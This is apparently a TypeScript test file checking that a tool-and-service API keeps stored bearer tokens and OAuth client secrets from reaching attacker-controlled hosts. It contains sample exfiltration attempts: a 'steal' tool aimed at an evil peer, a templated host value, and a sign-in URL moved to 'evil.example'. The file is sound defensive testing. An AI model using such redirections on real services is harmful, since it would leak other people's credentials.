import { expect, test } from "vitest";
import { createTestApp } from "../harness/app.ts";
import { endpointTool } from "../harness/endpoint-tool.ts";
import { createPeer } from "../harness/peer.ts";

/** Attacks of somebody who may write tools, on the secret of a service that others have set. */
test("a service's secret goes to no host that its tools don't call, by saving a tool or by trying one, and tries are audited", async () => {
  const app = await createTestApp();
  const [theirs, evil] = [await createPeer(), await createPeer()];
  const auth = { auth_type: "bearer", auth_values: { token: "the secret" } };
  const service = await app.send("POST", "/api/v1/services/", { name: "Billing", description: "", ...auth });
  const service_id = service.body.id;
  const tool = (name: string, url: string) => ({ name, service_id, definition: endpointTool(name, url) });
  await app.send("POST", "/api/v1/tools/", tool("bill", `${theirs.url}/bill`));
  const attacker = app.sendAs(await app.createToken(["tools_write", "tools_read"]));
  const steal = endpointTool("steal", `${evil.url}/x`);
  const attempt = { definition: steal, service_id, arguments: {} };
  expect((await attacker("POST", "/api/v1/tools/try", attempt)).status).toBe(403);
  expect((await attacker("POST", "/api/v1/tools/", tool("steal", `${evil.url}/x`))).status).toBe(403);
  const hidden = tool("steal", "{{ vars.host }}/x");
  expect((await attacker("POST", "/api/v1/tools/", hidden)).status).toBe(403);
  const good = { ...attempt, definition: endpointTool("bill", `${theirs.url}/other`) };
  expect((await attacker("POST", "/api/v1/tools/try", good)).status).toBe(200);
  expect(theirs.requests).toHaveLength(1);
  expect(evil.requests).toEqual([]);
  const { items } = (await app.send("GET", "/api/v1/audit_entries/")).body;
  expect(items[0]).toMatchObject({ action: "try", after: { service_id, url: `${theirs.url}/other` } });
});

test("a secret is not kept when the sign-in server is moved", async () => {
  const app = await createTestApp();
  const values = { client_id: "us", client_secret: "secret", auth_url: "https://login.example.com/token" };
  const body = { name: "CRM", description: "", auth_type: "oauth2" };
  const { id } = (await app.send("POST", "/api/v1/services/", { ...body, auth_values: values })).body;
  const moved = { client_id: null, client_secret: null, auth_url: "https://evil.example/token" };
  const put = (auth_values: object) => app.send("PUT", "/api/v1/services/", { id, ...body, auth_values });
  expect((await put(moved)).status).toBe(422);
  expect((await put({ ...moved, client_secret: "given again" })).status).toBe(200);
  expect((await put({ client_id: null, client_secret: null, auth_url: null })).status).toBe(200);
});
